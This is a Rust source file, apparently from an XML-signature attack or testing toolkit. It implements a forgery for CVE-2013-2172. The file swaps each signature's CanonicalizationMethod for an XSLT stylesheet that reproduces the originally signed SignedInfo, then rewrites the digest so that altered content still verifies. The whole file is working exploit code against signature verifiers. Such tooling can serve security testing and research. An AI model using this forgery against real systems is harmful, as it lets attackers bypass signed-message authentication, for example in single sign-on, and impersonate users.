//! A program for the CanonicalizationMethod: who lets a message choose it lets the message say what was signed.

use super::Attacker;
use super::document::{Document, missing};
use super::signature::Signature;
use super::signed_info::{each_signature, every_signature};
use crate::WireError;
use crate::names::DSIG;
use crate::tree::Edits;
use crate::xml::escaped;

const XSLT: &str = "http://www.w3.org/TR/1999/REC-xslt-19991116";
const XSL: &str = "http://www.w3.org/1999/XSL/Transform";

/// The victim's name and the digest that this gives, and in every signature a stylesheet that writes SignedInfo as it was
/// signed (CVE-2013-2172).
pub(super) fn forged(
    document: &Document<'_>,
    attacker: &Attacker<'_>,
) -> Result<String, WireError> {
    each_signature(document, attacker, |document, signature| {
        let mut edits = instead_of_canonicalization(document, signature)?;
        let digest = document.tree.content(signature.digest_value);
        edits.replace(digest.ok_or_else(|| missing("digest"))?, signature.digest(document)?);
        Ok(edits)
    })
}

/// The stylesheets alone, which write SignedInfo as it is now.
pub(super) fn everywhere(document: &Document<'_>) -> Result<String, WireError> {
    every_signature(document.xml.to_owned(), instead_of_canonicalization)
}

fn instead_of_canonicalization(
    document: &Document<'_>,
    signature: &Signature,
) -> Result<Edits, WireError> {
    let method = document.tree.child(signature.signed_info, DSIG, "CanonicalizationMethod");
    let method = method.ok_or_else(|| missing("CanonicalizationMethod"))?;
    let signed = String::from_utf8(signature.signed_bytes(document)?);
    let signed = escaped(&signed.map_err(|_| missing("SignedInfo that is text"))?);
    let name = document.tree.name(method);
    let mut edits = Edits::default();
    edits.replace(
        document.tree.range(method),
        format!(
            r#"<{name} Algorithm="{XSLT}"><xsl:stylesheet xmlns:xsl="{XSL}" version="1.0"><xsl:output method="text"></xsl:output><xsl:template match="/">{signed}</xsl:template></xsl:stylesheet></{name}>"#
        ),
    );
    Ok(edits)
}
